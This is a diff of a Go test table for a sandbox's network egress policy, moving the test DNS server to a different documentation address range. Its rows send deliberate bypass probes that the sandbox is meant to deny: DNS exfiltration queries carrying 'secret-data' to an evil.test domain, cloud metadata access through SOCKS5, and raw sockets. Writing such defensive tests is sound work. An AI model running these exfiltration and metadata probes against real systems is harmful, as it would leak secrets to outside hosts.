@@ -15,7 +15,7 @@ const testnetQueryLog = "/run/stk-testnet-queries.log"
 // reachable, but they refuse the floor (cloud metadata) by address, whatever
 // the client; a denied name is NXDOMAIN and never reaches the upstream
 // resolver; and the sockets and routes that would go around them still fail.
-// Destinations are TEST-NET-3 and link-local only: even a broken sandbox
+// Destinations are TEST-NET-2 and link-local only: even a broken sandbox
 // sends nothing to a real host.
 var egressRows = []row{
 	{name: "egress_http_proxy_reachable", args: probe("connect-tcp", "127.0.0.1:3128"), want: "OK"},
@@ -28,17 +28,17 @@ var egressRows = []row{
 	{name: "egress_socks5_metadata", flags: []string{"--agent-policy", "allow"},
 		args: sh(socks5IPv4("169.254.169.254", 80)), want: "DENIED SOCKS2"},
 	// A proxy-agnostic bypass: talk to the test DNS server directly.
-	{name: "egress_direct_dns_udp", args: probe("connect-udp", "203.0.113.53:53"), want: "DENIED ENETUNREACH"},
-	{name: "egress_direct_dns_tcp", args: probe("connect-tcp", "203.0.113.53:53"), want: "DENIED ENETUNREACH"},
+	{name: "egress_direct_dns_udp", args: probe("connect-udp", "198.51.100.53:53"), want: "DENIED ENETUNREACH"},
+	{name: "egress_direct_dns_tcp", args: probe("connect-tcp", "198.51.100.53:53"), want: "DENIED ENETUNREACH"},
 	{name: "egress_raw_icmp", args: probe("socket", "AF_INET", "SOCK_RAW", "IPPROTO_ICMP"), want: "DENIED EPERM"},
 	// DNS exfiltration: the data is in the name; a denied name must not leave.
 	// The answer inside is checked everywhere; that the test DNS server never
 	// saw the name needs scripts/testnet.sh (a failure with STOCKADE_MUST_WORK=1).
-	{name: "egress_dns_exfil_getent", flags: []string{"--resolver", "203.0.113.53"},
+	{name: "egress_dns_exfil_getent", flags: []string{"--resolver", "198.51.100.53"},
 		args:  sh("getent hosts secret-data.evil.test >/dev/null; [ $? = 2 ] && echo DENIED NXDOMAIN || echo OK"),
 		want:  "DENIED NXDOMAIN",
 		check: neverForwarded},
-	{name: "egress_dns_exfil_txt", flags: []string{"--resolver", "203.0.113.53"},
+	{name: "egress_dns_exfil_txt", flags: []string{"--resolver", "198.51.100.53"},
 		args: sh(dnsQuery("c2VjcmV0LWRhdGE.evil.test", 16)), want: "DENIED RCODE3", check: neverForwarded},
 }
 
